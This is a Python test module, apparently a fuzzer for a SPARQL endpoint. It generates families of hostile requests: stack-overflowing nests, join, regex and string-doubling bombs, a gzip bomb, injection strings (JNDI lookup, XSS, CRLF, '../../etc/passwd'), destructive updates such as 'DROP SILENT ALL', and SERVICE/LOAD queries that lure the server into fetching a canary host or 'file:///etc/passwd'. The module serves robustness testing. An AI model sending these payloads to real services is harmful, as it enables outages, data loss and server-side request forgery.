"""Strangers' queries that mean no good, made in families, and mutations of them from a seed.

What they do was seen on engines: nests and flat chains overflow the stack and kill a process, small joins and paths
never end, strings double until memory is gone, SERVICE and its relatives call on hosts inside.
"""

from __future__ import annotations

import gzip
import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlencode

QUERIES = Path(__file__).resolve().parents[2] / "queries"
DIRECT = {"Content-Type": "application/sparql-query"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
UPDATE = {"Content-Type": "application/sparql-update"}


@dataclass(frozen=True)
class Aanval:
    """One request; `naam` is the family and a number."""

    naam: str
    body: bytes = b""
    method: str = "POST"
    path: str = "/sparql"
    headers: dict[str, str] = field(default_factory=lambda: dict(DIRECT))


def attacks(canary: str) -> list[Aanval]:
    """Every attack; those that lure the service into fetching name the canary: host and port."""
    families: Sequence[tuple[str, Iterator[str]]] = (
        ("nest", _nests()),
        ("keten", _chains()),
        ("bom", _bombs()),
        ("getal", _numbers()),
        ("regex", _regexes()),
        ("injectie", _injections()),
        ("teken", _characters()),
        ("naar-binnen", _lures(canary)),
    )
    found = [
        Aanval(f"{family}-{number}", query.encode("utf-8", "surrogatepass"))
        for family, queries in families
        for number, query in enumerate(queries)
    ]
    return [*found, *_bytes(), *_updates(canary), *_protocol(canary)]


def mutations(seed: int, count: int, canary: str) -> Iterator[Aanval]:
    """Attacks and the repository's own queries, each changed in a few places; the seed decides."""
    dice = random.Random(seed)
    bases = [attack.body for attack in attacks(canary) if attack.headers == DIRECT and len(attack.body) < 20_000]
    bases += [path.read_bytes() for path in sorted(QUERIES.rglob("*.rq"))]
    for number in range(count):
        body = bytearray(dice.choice(bases))
        for _ in range(dice.randint(1, 4)):
            dice.choice(_CHANGES)(body, dice)
        yield Aanval(f"mutatie-{seed}-{number}", bytes(body[:60_000]))


def _repeat(start: str, middle: str, end: str, sizes: Sequence[int], around: str) -> Iterator[str]:
    for size in sizes:
        yield around.replace("@", start * size + middle + end * size)


def _nests() -> Iterator[str]:
    sizes = (16, 64, 300, 1000, 4000)
    bind, where = "SELECT * WHERE { BIND(@ AS ?x) }", "SELECT * WHERE { @ }"
    for start, middle, end, around in (
        ("{", "?s ?p ?o", "}", where),
        ("(", "1", ")", bind),
        ("!(", "true", ")", bind),
        ("!", "true", "", bind),
        ("- ", "1", "", bind),
        ("IF(true,", "1", ",2)", bind),
        ("COALESCE(", "1", ")", bind),
        ("CONCAT('a',", "'b'", ")", bind),
        ("STR(", "'b'", ")", bind),
        ("(1 IN (", "1", "))", bind),
        ("{ SELECT * WHERE ", "{ ?s ?p ?o }", "}", where),
        ("{ ?a ?b ?c } UNION {", "?s ?p ?o", "}", where),
        ("OPTIONAL { ?a ?b ?c ", "", "}", where),
        ("?s ?p ?o MINUS {", "?s ?p ?o", "}", where),
        ("FILTER NOT EXISTS { ?s ?p ?o ", "", "}", where),
        ("FILTER(EXISTS { ?s ?p ?o ", "", "})", where),
        ("GRAPH ?g {", "?s ?p ?o", "}", where),
        ("[ <a:p> ", "1", "]", "SELECT * WHERE { ?s ?p @ }"),
        ("(", "1", ")", "SELECT * WHERE { ?s ?p @ }"),
        ("(", "<a:p>", ")*", "SELECT * WHERE { ?s @ ?o }"),
        ("(<a:q>/", "<a:p>", ")?", "SELECT * WHERE { ?s @ ?o }"),
        ("^(", "<a:p>", ")", "SELECT * WHERE { ?s @ ?o }"),
        ("<<( ", "<a:a> <a:b> <a:c>", " <a:b> <a:c> )>>", "SELECT * WHERE { ?s ?p @ }"),
    ):
        yield from _repeat(start, middle, end, sizes, around)


def _chains() -> Iterator[str]:
    sizes = (60, 400, 2500, 9000)
    bind, where = "SELECT * WHERE { BIND(@ AS ?x) }", "SELECT * WHERE { @ }"
    for part, between, around in (
        ("1", "+", bind),
        ("1", "-", bind),
        ("2", "*", bind),
        ("true", "||", bind),
        ("true", "&&", bind),
        ("1", " = ", bind),
        ("{ ?s ?p ?o }", " UNION ", where),
        ("MINUS { ?s ?p ?o }", " ", where),
        ("OPTIONAL { ?s ?p ?o }", " ", where),
        ("{ ?s ?p ?o }", " ", where),
        ("OPTIONAL {}", "", where),
        ("FILTER(true)", " ", where),
        ("FILTER NOT EXISTS { ?s ?p 1 }", " ", where),
        ("?s ?p ?o", " . ", where),
        ("<a:p>", "/", "SELECT * WHERE { ?s @ ?o }"),
        ("<a:p>", "|", "SELECT * WHERE { ?s @ ?o }"),
        ("!<a:p>", "|", "SELECT * WHERE { ?s (@) ?o }"),
        ("<a:p>*", "/", "SELECT * WHERE { ?s @ ?o }"),
        ("1", ", ", "SELECT * WHERE { ?s ?p ?o FILTER(?o IN (@)) }"),
        ("1", " ", "SELECT * WHERE { VALUES ?x { @ } ?s ?p ?o }"),
        ("?s", " ", "SELECT @ WHERE { ?s ?p ?o }"),
        ("DESC(?o)", " ", "SELECT * WHERE { ?s ?p ?o } ORDER BY @"),
        ("(STR(?s))", " ", "SELECT (1 AS ?x) WHERE { ?s ?p ?o } GROUP BY @"),
    ):
        for size in sizes:
            yield around.replace("@", between.join([part] * size))
    for size in sizes:
        yield "SELECT * WHERE { " + " . ".join(f"?s{n} ?p{n} ?s{n + 1}" for n in range(size)) + " }"
        yield "SELECT * WHERE { " + " ".join(f"BIND({n} AS ?x{n})" for n in range(size)) + " }"
        yield "\n".join(f"PREFIX p{n}: <http://a.example/{n}#>" for n in range(size)) + "\nASK {}"


def _bombs() -> Iterator[str]:
    cross = [" . ".join(f"?a{n} ?b{n} ?c{n}" for n in range(size)) for size in (2, 3, 5, 8)]
    for body in cross:
        yield f"SELECT * WHERE {{ {body} }}"
        yield f"SELECT (COUNT(*) AS ?n) WHERE {{ {body} }}"
        yield f"SELECT DISTINCT * WHERE {{ {body} }}"
        yield f"SELECT * WHERE {{ {body} }} ORDER BY ?c1 ?a0"
        yield f"CONSTRUCT {{ ?a0 ?b0 ?c1 . ?a1 ?b1 ?c0 }} WHERE {{ {body} }}"
        yield f'SELECT * WHERE {{ {body} FILTER(REGEX(CONCAT(STR(?a0), STR(?c1)), "(x+x+)+y")) }}'
        yield f"SELECT (GROUP_CONCAT(STR(?c0)) AS ?x) WHERE {{ {body} }}"
        yield f"SELECT (SUM(STRLEN(STR(?c0)) * STRLEN(STR(?c1))) AS ?x) WHERE {{ {body} }} GROUP BY ?a0"
        yield f"ASK {{ {body} FILTER(?c0 = ?c1 && ?c0 != ?c1) }}"
    for path in ("(<a:p>|!<a:p>)*", "(!<a:q>)+", "(<a:p>|!<a:p>|^<a:p>)*", "((!<a:q>)*)*", "(!<a:q>/!<a:q>)*"):
        yield f"SELECT * WHERE {{ ?s {path} ?o }}"
        yield f"SELECT (COUNT(*) AS ?n) WHERE {{ ?s {path} ?o . ?o {path} ?z }}"
    for doubling in (16, 26, 34, 60):
        binds = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(doubling))
        yield f"SELECT ?x{doubling} WHERE {{ BIND('aaaaaaaaaaaaaaaa' AS ?x0) {binds} }}"
        yield f"SELECT (STRLEN(?x{doubling}) AS ?n) WHERE {{ BIND('aaaaaaaaaaaaaaaa' AS ?x0) {binds} }}"
        replaced = " ".join(f"BIND(REPLACE(?x{n}, 'a', 'aa') AS ?x{n + 1})" for n in range(doubling))
        yield f"SELECT ?x{doubling} WHERE {{ BIND('aaaa' AS ?x0) {replaced} }}"
        encoded = " ".join(f"BIND(ENCODE_FOR_URI(CONCAT(?x{n}, '%')) AS ?x{n + 1})" for n in range(doubling))
        yield f"SELECT ?x{doubling} WHERE {{ BIND('%%%%' AS ?x0) {encoded} }}"
    for size in (10, 60, 400):
        many = " ".join(str(n) for n in range(size))
        for count in (2, 4):
            values = " ".join(f"VALUES ?v{n} {{ {many} }}" for n in range(count))
            yield f"SELECT (COUNT(*) AS ?n) WHERE {{ {values} }}"
            yield f"SELECT (GROUP_CONCAT(?t; separator='xxxxxxxx') AS ?x) WHERE {{ {values} BIND(STR(?v0) AS ?t) }}"


def _numbers() -> Iterator[str]:
    for number in ("1" * 26, str(2**64 - 1), str(2**63), "-1", "1e9", "9" * 400):
        yield f"SELECT * WHERE {{ ?s ?p ?o }} LIMIT {number}"
        yield f"SELECT * WHERE {{ ?s ?p ?o }} OFFSET {number}"
    for value in (
        "1e999999999",
        "0." + "1" * 4000,
        "9" * 4000,
        f"{2**63 - 1} + 1",
        f"-{2**63} - 1",
        "1/0",
        "1.0/0.0",
        "1e308*1e308",
        '"-999999999999-01-01T00:00:00Z"^^<http://www.w3.org/2001/XMLSchema#dateTime>',
        'YEAR("999999999999-12-31T00:00:00Z"^^<http://www.w3.org/2001/XMLSchema#dateTime>)',
        '"P9999999999999999Y"^^<http://www.w3.org/2001/XMLSchema#duration>',
        "SUBSTR('abc', -9223372036854775808, 9223372036854775807)",
        "ROUND(1e308)",
        "CEIL('NaN'^^<http://www.w3.org/2001/XMLSchema#double>)",
    ):
        yield f"SELECT ({value} AS ?x) WHERE {{}}"


def _regexes() -> Iterator[str]:
    text = "a" * 60 + "!"
    for pattern in (
        "(a+)+$",
        "(a|aa)+$",
        "(a*)*b",
        "(.*)*x",
        "([a-z]+)*\\\\d",
        "(?=a)",
        "(",
        "[",
        "a{1000000}",
        "\\\\1",
    ):
        yield f"SELECT (REGEX('{text}', '{pattern}') AS ?x) WHERE {{}}"
        yield f"SELECT (REPLACE('{text}', '{pattern}', '$1$1$1') AS ?x) WHERE {{ ?s ?p ?o }}"
    yield f"SELECT (REGEX('{text}', '{'(a?)' * 500}{'a' * 500}') AS ?x) WHERE {{}}"
    yield "SELECT (REGEX('x', '" + "((((a{50}){50}){50}){50})" + "') AS ?x) WHERE {}"


def _injections() -> Iterator[str]:
    for payload in (
        'x" } UNION { ?s ?p ?o } } #',
        "x') || (1=1",
        "x\\' || true || \\'",
        "</script><script>alert(1)</script>",
        "'; DROP ALL; --",
        "${jndi:ldap://127.0.0.1/a}",
        "{{7*7}}",
        "%0d%0aSet-Cookie: a=b",
        "\r\nLoketgraph-Afgekapt: nee",
        "../../etc/passwd",
    ):
        yield f'SELECT * WHERE {{ ?s ?p "{payload}" }}'
        yield f"SELECT ?x WHERE {{ BIND(<http://a.example/{payload}> AS ?x) }}"
        yield f"{payload} SELECT * WHERE {{ ?s ?p ?o }} {payload}"


def _characters() -> Iterator[str]:
    query = "SELECT * WHERE { ?s ?p ?o } LIMIT 1"
    for extra in ("\x00", "\ufeff", "\u200b", "\u202e", "\ufffe", "\U0010ffff", "\ud800", "\\u0000", "\\uD800", "\\u"):
        yield extra + query
        yield query.replace("?s", extra)
        yield f'SELECT ("{extra}" AS ?x) WHERE {{}}'
        yield f"SELECT * WHERE {{ <http://a.example/{extra}> ?p ?o }}"
    yield "SELECT * WHERE { ?ѕеlесt ?р ?о }"
    yield "ＳＥＬＥＣＴ * WHERE { ?s ?p ?o }"
    yield '"' * 5000
    yield "'''" + "''" * 4000
    yield "<" * 8000
    yield "#" * 15_000
    yield "\\u0028" * 2000
    yield "a." * 8000
    yield "a:" + "." * 15_000
    yield "@a-" * 5000
    yield ""
    yield " " * 15_000


def _lures(canary: str) -> Iterator[str]:
    iri = f"<http://{canary}/>"
    prefix = f"PREFIX : <http://{canary}/> PREFIX a: <http://{canary}/>"
    for service in (
        f"SERVICE {iri} {{ ?s ?p ?o }}",
        f"service{iri}{{?s ?p ?o}}",
        f"SeRvIcE SILENT {iri} {{ ?s ?p ?o }}",
        f"SERVICESILENT{iri}{{?s ?p ?o}}",
        f"SERVICE#commentaar\n{iri}{{?s ?p ?o}}",
        "SERVICE:x{?s ?p ?o}",
        "SERVICEa:b{?s ?p ?o}",
        "SERVICE SILENTa:b{?s ?p ?o}",
        f"BIND({iri} AS ?x) SERVICE?x{{?s ?p ?o}}",
        f"VALUES ?x {{ {iri} }} SERVICE $x {{ ?s ?p ?o }}",
        f"\\u0053ERVICE {iri} {{ ?s ?p ?o }}",
        f"S\\u0045RVICE {iri} {{ ?s ?p ?o }}",
        f"\\U00000053ERVICE {iri} {{ ?s ?p ?o }}",
        f"FILTER(1<2)SERVICE{iri}{{?s ?p ?o}}",
        f"FILTER(1<'>')SERVICE{iri}{{?s ?p '>'}}",
        f"?s ?p 1SERVICE{iri}{{?s ?p ?o}}",
        f"?s ?p trueSERVICE{iri}{{?s ?p ?o}}",
        f"FILTER EXISTS {{ SERVICE {iri} {{ ?s ?p ?o }} }}",
        f"{{ SELECT * WHERE {{ SERVICE {iri} {{ ?s ?p ?o }} }} }}",
        f"GRAPH ?g {{ SERVICE {iri} {{ ?s ?p ?o }} }}",
        f"OPTIONAL {{ SERVICE SILENT {iri} {{ ?s ?p ?o }} }}",
        f"MINUS {{ ?s ?p ?o SERVICE {iri} {{ ?s ?p ?o }} }}",
        "SERVICE <file:///etc/passwd> { ?s ?p ?o }",
        f"SERVICE <https://{canary}/> {{ ?s ?p ?o }}",
        f"SERVICE <http://gebruiker:wachtwoord@{canary}/> {{ ?s ?p ?o }}",
    ):
        yield f"{prefix} SELECT * WHERE {{ {service} }}"
    for clause in ("FROM", "FROM NAMED", "from", "FROMNAMED", "FR\\u004FM"):
        yield f"SELECT * {clause} {iri} WHERE {{ ?s ?p ?o }}"
        yield f"{prefix} CONSTRUCT {{ ?s ?p ?o }} {clause} :x WHERE {{ ?s ?p ?o }}"
    yield f"DESCRIBE {iri}"
    yield f"CONSTRUCT {{ {iri} <http://www.w3.org/2002/07/owl#imports> {iri} }} WHERE {{}}"
    yield f"BASE {iri} CONSTRUCT {{ <x> <@context> <y> }} WHERE {{}}"
    yield f"SELECT * WHERE {{ GRAPH {iri} {{ ?s ?p ?o }} }}"
    yield f"ASK {{ {iri} (<a:p>)* {iri} }}"


def _bytes() -> Iterator[Aanval]:
    query = b"SELECT * WHERE { ?s ?p ?o } LIMIT 1"
    for number, body in enumerate(
        (
            b"\xff\xfe" + query,
            query.decode().encode("utf-16"),
            b"\xc0\xaf" + query,
            query + b"\xed\xa0\x80",
            b"\x80" * 1000,
            bytes(range(256)),
            b"A" * 300_000,
            query + b" " * 100_000,
        )
    ):
        yield Aanval(f"bytes-{number}", body)
        yield Aanval(f"bytes-formulier-{number}", b"query=" + body, headers=dict(FORM))


def _updates(canary: str) -> Iterator[Aanval]:
    for number, update in enumerate(
        (
            "INSERT DATA { <a:a> <a:b> <a:c> }",
            "DELETE WHERE { ?s ?p ?o }",
            "CLEAR ALL",
            "DROP SILENT ALL",
            "CREATE GRAPH <a:g>",
            "MOVE DEFAULT TO <a:g>",
            f"LOAD <http://{canary}/>",
            f"load silent <http://{canary}/> INTO GRAPH <a:g>",
            f"\\u004COAD <http://{canary}/>",
            f"SELECT * WHERE {{}} ; LOAD <http://{canary}/>",
        )
    ):
        yield Aanval(f"wijziging-{number}", update.encode(), headers=dict(UPDATE))
        yield Aanval(f"wijziging-als-vraag-{number}", update.encode())
        yield Aanval(f"wijziging-formulier-{number}", urlencode({"update": update}).encode(), headers=dict(FORM))
        yield Aanval(
            f"wijziging-get-{number}", method="GET", path="/sparql?" + urlencode({"update": update}), headers={}
        )


def _protocol(canary: str) -> Iterator[Aanval]:
    ask = {"query": "ASK {}"}
    for number, params in enumerate(
        (
            [("query", "ASK {}"), ("query", "ASK {}")],
            [("query", "ASK {}"), ("default-graph-uri", f"http://{canary}/")],
            [("query", "ASK {}"), ("named-graph-uri", f"http://{canary}/")],
            [("query", "ASK {}"), ("default-graph-uri", "file:///etc/passwd")],
            [("query", "ASK {}"), ("default-graph-uri", "geen adres")],
            [("query", "ASK {}"), ("default-graph-uri", "a:" + "x" * 5000)],
            [("query", "ASK {}")] + [("default-graph-uri", "a:b")] * 90,
            [("query", "ASK {}")] * 200,
            [("query", "")],
            [("default-graph-uri", f"http://{canary}/")],
        )
    ):
        yield Aanval(f"protocol-{number}", method="GET", path="/sparql?" + urlencode(params), headers={})
        yield Aanval(f"protocol-formulier-{number}", urlencode(params).encode(), headers=dict(FORM))
    for number, accept in enumerate(("x", "*/*;q=0", ",".join(["a/b"] * 5000), "text/csv;q=1e9", ";" * 5000, "é")):
        headers = {"Accept": accept.encode("utf-8").decode("latin-1")}
        yield Aanval(f"accept-{number}", method="GET", path="/sparql?" + urlencode(ask), headers=headers)
    zipped = gzip.compress(b"A" * 10_000_000)
    yield Aanval("ingepakt", zipped, headers={**DIRECT, "Content-Encoding": "gzip"})
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "PROPFIND"):
        yield Aanval(f"methode-{method}", method=method, path="/sparql?" + urlencode(ask), headers={})
    for number, path in enumerate(
        ("/sparql?query=%", "/sparql?query=%FF", "/sparql?query=" + "A" * 20_000, "/sparql?%00")
    ):
        yield Aanval(f"adres-{number}", method="GET", path=path, headers={})


def _cut(body: bytearray, dice: random.Random) -> None:
    start = dice.randrange(len(body) + 1)
    del body[start : start + dice.randint(1, 30)]


def _double(body: bytearray, dice: random.Random) -> None:
    start = dice.randrange(len(body) + 1)
    part = body[start : start + dice.randint(1, 60)]
    body[start:start] = part * dice.choice((1, 2, 10, 200))


def _insert(body: bytearray, dice: random.Random) -> None:
    start = dice.randrange(len(body) + 1)
    body[start:start] = dice.choice(_PIECES)


def _flip(body: bytearray, dice: random.Random) -> None:
    if body:
        body[dice.randrange(len(body))] = dice.randrange(256)


_PIECES = tuple(
    piece.encode()
    for piece in (
        *"{}()[]<>|^*/+?!.;,#'\"\\@$:=&-",
        *(" UNION ", " OPTIONAL ", " MINUS ", " SERVICE ", " FILTER ", " NOT EXISTS ", " SELECT * ", " GRAPH ?g "),
        *("'''", '"""', "^^", "||", "&&", "<<(", ")>>", "\\u0041", "99999999999999999999", "1e99", "?s ?p ?o . "),
        *("VALUES ?x { 1 2 } ", "BIND(1 AS ?x) ", "LIMIT 5 ", "FROM <a:b> ", "INSERT ", "\x00", "\u202e", "é"),
    )
)
_CHANGES: tuple[Callable[[bytearray, random.Random], None], ...] = (_cut, _double, _insert, _insert, _flip)
